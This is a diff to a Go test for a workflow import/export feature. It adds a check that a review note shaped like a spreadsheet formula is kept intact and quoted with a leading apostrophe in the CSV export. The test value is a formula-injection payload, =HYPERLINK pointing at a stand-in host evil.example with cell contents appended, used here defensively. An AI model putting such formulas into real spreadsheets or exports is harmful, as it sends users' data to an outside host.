@@ -122,8 +122,11 @@ func TestImportAndExportAWorkflow(t *testing.T) {
 			t.Fatalf("submit %d for %s: %v", id, ed.Name, err)
 		}
 	}
+	// Notes a spreadsheet would take for a formula: kept as they are, and
+	// quoted in CSV.
+	formula := `=HYPERLINK("http://evil.example/?"&A2,"open")`
 	submit(story, ann, "", "")
-	submit(story, bob, tasks.DecisionSendBack, "fix the lede, please")
+	submit(story, bob, tasks.DecisionSendBack, formula)
 	submit(story, ann, "", "")
 	submit(story, bob, tasks.DecisionApprove, "")
 	submit(photo, ann, "cat", "")
@@ -139,7 +142,7 @@ func TestImportAndExportAWorkflow(t *testing.T) {
 	}
 	want := []line{
 		{story, "edit", "", "", 0, 0},
-		{story, "review", "send_back", "fix the lede, please", 0, 0},
+		{story, "review", "send_back", formula, 0, 0},
 		{story, "edit", "", "", 0, 0},
 		{story, "review", "approve", "", 0, 0},
 		{photo, "", "cat", "", photo, 3},
@@ -173,6 +176,9 @@ func TestImportAndExportAWorkflow(t *testing.T) {
 	}
 	for i, w := range want {
 		cells := recs[i+1][len(exportfile.Columns):]
+		if w.Notes == formula {
+			w.Notes = "'" + formula
+		}
 		if cells[0] != w.Stage || cells[1] != w.Decision || cells[2] != w.Notes ||
 			(w.GroupID == 0) != (cells[3] == "") || (w.Overlap == 0) != (cells[4] == "") {
 			t.Errorf("CSV row %d: workflow cells %q, want %+v", i+1, cells, w)
